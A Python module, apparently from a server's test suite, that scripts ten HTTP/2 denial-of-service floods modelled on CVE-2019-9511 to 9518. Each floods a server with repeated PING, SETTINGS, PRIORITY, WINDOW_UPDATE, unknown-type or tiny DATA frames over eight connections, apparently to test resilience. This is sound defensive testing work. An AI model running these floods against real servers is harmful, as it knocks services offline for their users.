"""Floods of frames that cost their sender nothing (CVE-2019-9511 to 9518), on eight connections over HTTP/2."""

from __future__ import annotations

from tests.attacks import h2
from tests.attacks.attack import Attack
from tests.attacks.script import MakeScript, Script, repeated
from tests.bench.http2_frames import DATA, SETTINGS, WINDOW_UPDATE, frame

CONNECTIONS = 8
UNKNOWN = 0xFA
AT_ONCE = 5000


def on_connection(unit: bytes) -> MakeScript:
    """The same frames again and again, on no stream or on an idle one."""

    def script(_secure: bool) -> Script:
        yield from h2.opening()
        yield from repeated(unit)

    return script


def on_stream(unit: bytes) -> MakeScript:
    """The same frames again and again, on stream 1, whose request has a body."""

    def script(secure: bool) -> Script:
        yield from h2.opening()
        yield h2.request(1, h2.fields(secure, "/upload", "POST"), end=False)
        yield from repeated(unit)

    return script


def within_credit(payload: bytes, flags: int = 0) -> MakeScript:
    """DATA that the server lets pass."""

    def script(secure: bool) -> Script:
        yield from h2.opening()
        yield h2.request(1, h2.fields(secure, "/upload", "POST"), end=False)
        yield from h2.data(1, payload, AT_ONCE, flags)

    return script


def _flood(name: str, title: str, script: MakeScript) -> Attack:
    return Attack(f"{name}-flood", f"flood of {title}", "h2", CONNECTIONS, script)


ATTACKS = (
    _flood("ping", "PING", on_connection(frame(h2.PING, 0, 0, bytes(8)))),
    _flood("ping-ack", "PING with ACK", on_connection(frame(h2.PING, h2.ACK, 0, bytes(8)))),
    _flood("settings", "SETTINGS, each changes the size of the header table",
           on_connection(frame(SETTINGS, 0, 0, b"\x00\x01" + (0).to_bytes(4)))),
    _flood("settings-ack", "SETTINGS with ACK", on_connection(frame(SETTINGS, h2.ACK, 0))),
    _flood("priority", "PRIORITY", on_connection(frame(h2.PRIORITY, 0, 1, bytes(5)))),
    _flood("unknown", "frames of an unknown type", on_connection(frame(UNKNOWN, 0, 0))),
    _flood("window-update", "WINDOW_UPDATE of one byte", on_stream(frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4)))),
    _flood("empty-data", "empty DATA", on_stream(frame(DATA, 0, 1))),
    _flood("padded-data", "DATA of padding alone", within_credit(b"\x00", h2.PADDED)),
    _flood("one-byte-data", "DATA of one byte", within_credit(b"x")),
)  # fmt: skip
